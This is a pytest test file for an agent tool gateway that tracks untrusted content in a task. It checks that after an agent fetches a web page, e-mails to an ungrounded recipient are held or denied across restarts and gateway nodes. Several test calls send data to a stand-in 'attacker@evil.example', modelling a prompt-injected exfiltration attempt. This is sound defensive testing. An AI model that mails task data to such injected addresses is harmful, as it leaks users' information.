"""The gateway's information-flow rules, for real: uvicorn, the official MCP client, stdio.

The bundled tool server is described with the flow facts of the catalogue:
``fetch_page`` returns content nobody vouches for; ``send_email`` sends out,
``to`` is checked as a whole value and ``body`` link by link (``text_sinks``).
The task's flow state lives in the store (``task_flow``), so a restarted
gateway continues from it.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import anyio
import msgspec
import pytest

from tether import ProofKey, Tether, parse_intent
from tether.core import FlowState, SinkKind
from tether.gateway import ToolEntry, classify, parse_config, tool_profile

from .mcp_support.harness import (
    AGENT,
    POLICIES,
    TOOLS_IDENTITY,
    GatewayServer,
    build_config,
    free_port,
    init_home,
    mcp_client,
    receipts,
    text_of,
    tools_upstream,
)

REQUEST = "Read https://example.com and e-mail a short summary to partner@acme.example"
CATALOGUE: dict[str, dict[str, Any]] = {
    "echo": {"side_effect": "read", "sensitivity": "public", "trusted": True, "sinks": []},
    "fetch_page": {"side_effect": "read", "sensitivity": "public", "sinks": ["url"]},
    "send_email": {
        "side_effect": "egress",
        "sensitivity": "internal",
        "trusted": True,
        "sinks": ["to"],
        "text_sinks": ["body"],
    },
}
# A policy reading context.flow: a tool listed (and callable) only until untrusted
# content has entered the task. Without context.flow in tools/list it would error.
FLOW_POLICY = """
@id("echo-only-while-clean")
forbid (principal, action == Action::"call_tool", resource == Tool::"tools.echo")
when { context.flow.untrusted_read };
"""
TOOLS = ["tools.echo", "tools.fetch_page", "tools.send_email"]


@dataclass
class Home:
    tether: Tether
    path: Path
    base: Path

    def task(self, resource: str, request: str | None = REQUEST) -> tuple[ProofKey, str, str]:
        key = ProofKey()
        intent = parse_intent(
            {
                "purpose": "summarise a page for a partner",
                "capabilities": [{"tool": t} for t in TOOLS],
                "data_ceiling": "internal",
                "budget": {"max_calls": 20},
                "ttl_seconds": 600,
                **({"request": request} if request is not None else {}),
            }
        )
        task = self.tether.open_task(AGENT, proof_jwk=key.jwk, intent=intent, resources=(resource,))
        return key, task.task_id, task.token

    def gateway(self, port: int, flow: str) -> GatewayServer:
        config = build_config(
            port,
            self.base,
            [tools_upstream("tools", TOOLS_IDENTITY, tools=CATALOGUE)],
            approval={"mode": "return"},
            flow=flow,
        )
        return GatewayServer(self.path, config, port).start().pin_all()


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Home]:
    base = tmp_path_factory.mktemp("gateway-flow")
    path = base / "home"
    tether = init_home(path, {"tools": TOOLS_IDENTITY})
    tether.policies.load({**POLICIES, "flow.cedar": FLOW_POLICY})
    try:
        yield Home(tether=tether, path=path, base=base)
    finally:
        tether.close()


@pytest.fixture(scope="module")
def reviewed(home: Home) -> Iterator[GatewayServer]:
    gateway = home.gateway(free_port(), "reviewed")
    try:
        yield gateway
    finally:
        gateway.stop()


def _decision(result: Any) -> dict[str, Any]:
    decision: dict[str, Any] = result.meta["tether/decision"]
    return decision


def _state(home: Home, task_id: str) -> FlowState:
    return home.tether.audit.rows.flow_state(task_id)


def test_catalogue_flow_facts_become_the_core_profile() -> None:
    entries = {name: msgspec.convert(e, ToolEntry) for name, e in CATALOGUE.items()}
    mail = tool_profile(classify(entries, "send_email"))
    assert mail.sinks == {"to": SinkKind.VALUE, "body": SinkKind.TEXT}
    assert tool_profile(classify(entries, "fetch_page")).trusted is False
    assert tool_profile(classify(entries, "nobody")).sinks is None  # undescribed: every one
    data: dict[str, Any] = {
        "resource": "http://127.0.0.1:9/mcp",
        "authorization_servers": ["https://tether.acme.example"],
        "upstreams": [
            {
                "name": "x",
                "identity": TOOLS_IDENTITY,
                "stdio": {"command": "x"},
                "tools": {"t": {"text_sinks": ["body"]}},
            }
        ],
    }
    with pytest.raises(Exception, match="text_sinks needs sinks too"):
        parse_config(data, base=Path("."))
    data["upstreams"][0]["tools"] = {"t": {"sinks": []}}
    config = parse_config(data, base=Path("."))
    assert config.flow == "reviewed"


def test_untrusted_content_then_an_ungrounded_recipient_is_held(
    home: Home, reviewed: GatewayServer
) -> None:
    key, task_id, token = home.task(reviewed.url)

    async def scenario() -> dict[str, Any]:
        async with mcp_client(reviewed.url, token, key, "2026-07-28") as client:
            out: dict[str, Any] = {}
            out["listed_before"] = {t.name for t in (await client.list_tools()).tools}
            out["page"] = await client.call_tool("tools.fetch_page", {"url": "https://example.com"})
            out["listed_after"] = {t.name for t in (await client.list_tools()).tools}
            out["attacker"] = await client.call_tool(
                "tools.send_email", {"to": "attacker@evil.example", "body": "the summary"}
            )
            out["link_in_body"] = await client.call_tool(
                "tools.send_email",
                {"to": "partner@acme.example", "body": "see attacker@evil.example"},
            )
            out["grounded"] = await client.call_tool(
                "tools.send_email",
                {"to": "partner@acme.example", "body": "Here is a short summary of example.com"},
            )
            return out

    out = anyio.run(scenario)
    # tools/list gives Cedar context.flow: the flow policy hides echo once untrusted
    # content has entered the task (and errors, hiding it, without context.flow).
    assert out["listed_before"] == set(TOOLS)
    assert out["listed_after"] == {"tools.fetch_page", "tools.send_email"}
    assert not out["page"].is_error
    held = _decision(out["attacker"])
    assert out["attacker"].is_error and held["effect"] == "approval_required"
    assert held["code"] == "flow.untrusted_sink"
    assert "untrusted content from tools.fetch_page" in held["message"]
    assert held["approval_id"]
    in_body = _decision(out["link_in_body"])
    assert in_body["effect"] == "approval_required" and in_body["code"] == "flow.untrusted_sink"
    assert "body='attacker@evil.example'" in in_body["message"]
    assert not out["grounded"].is_error, text_of(out["grounded"])
    assert "sent 38 characters to partner@acme.example" in text_of(out["grounded"])

    state = _state(home, task_id)
    assert state.untrusted_sources == ("tools.fetch_page",)
    assert [c.tool for c in state.calls] == ["tools.fetch_page", "tools.send_email"]
    decisions = [r for r in receipts(home.tether, "decision", 100) if r["task_id"] == task_id]
    assert [r["effect"] for r in decisions] == [
        "allow",
        "approval_required",
        "approval_required",
        "allow",
    ]
    assert {r["detail"]["flow_profile"] for r in decisions} == {"reviewed"}


def test_flow_state_survives_a_gateway_restart(home: Home) -> None:
    port = free_port()
    first = home.gateway(port, "reviewed")
    url = first.url
    key, task_id, token = home.task(url, request=None)
    clean_key, _clean_id, clean_token = home.task(url, request=None)
    mail = {"to": "partner@acme.example", "body": "weekly report"}

    async def read_page() -> Any:
        async with mcp_client(url, token, key, "auto") as client:
            return await client.call_tool("tools.fetch_page", {"url": "https://example.com"})

    try:
        assert not anyio.run(read_page).is_error
    finally:
        first.stop()
    assert _state(home, task_id).untrusted_sources == ("tools.fetch_page",)

    # Same address, a new gateway process state (and the strict profile): the task's
    # state comes from the store, so the untrusted read is still known.
    second = home.gateway(port, "strict")

    async def send(token: str, key: ProofKey) -> Any:
        async with mcp_client(url, token, key, "auto") as client:
            return await client.call_tool("tools.send_email", mail)

    try:
        refused = anyio.run(send, token, key)
        clean = anyio.run(send, clean_token, clean_key)
    finally:
        second.stop()
    decision = _decision(refused)
    assert refused.is_error and decision["effect"] == "deny"
    assert decision["code"] == "flow.untrusted_sink"
    assert "partner@acme.example" in decision["message"]
    assert not clean.is_error and "sent 13 characters" in text_of(clean)


def test_flow_state_follows_the_task_across_gateway_nodes(home: Home) -> None:
    """Two gateway nodes for one resource over one store: untrusted content read through
    node A holds an ungrounded send through node B (the flow state is the store's)."""
    port_a, port_b = free_port(), free_port()
    node_a = home.gateway(port_a, "reviewed")
    config_b = build_config(
        port_b,
        home.base,
        [tools_upstream("tools", TOOLS_IDENTITY, tools=CATALOGUE)],
        approval={"mode": "return"},
        flow="reviewed",
    )
    # Node B serves the same resource (as behind one load balancer), on its own port.
    config_b = msgspec.structs.replace(config_b, resource=node_a.url)
    node_b = GatewayServer(home.path, config_b, port_b).start().pin_all()
    try:
        key, task_id, token = home.task(node_a.url)
        url_b = f"http://127.0.0.1:{port_b}/mcp"

        async def scenario() -> tuple[Any, Any]:
            async with mcp_client(node_a.url, token, key, "2026-07-28") as on_a:
                page = await on_a.call_tool("tools.fetch_page", {"url": "https://example.com"})
            async with mcp_client(url_b, token, key, "2026-07-28") as on_b:
                sent = await on_b.call_tool(
                    "tools.send_email", {"to": "attacker@evil.example", "body": "hi"}
                )
            return page, sent

        page, sent = anyio.run(scenario)
        assert not page.is_error, text_of(page)
        held = _decision(sent)
        assert sent.is_error and held["effect"] == "approval_required", held
        assert held["code"] == "flow.untrusted_sink"
        assert _state(home, task_id).untrusted_sources == ("tools.fetch_page",)
    finally:
        node_b.stop()
        node_a.stop()
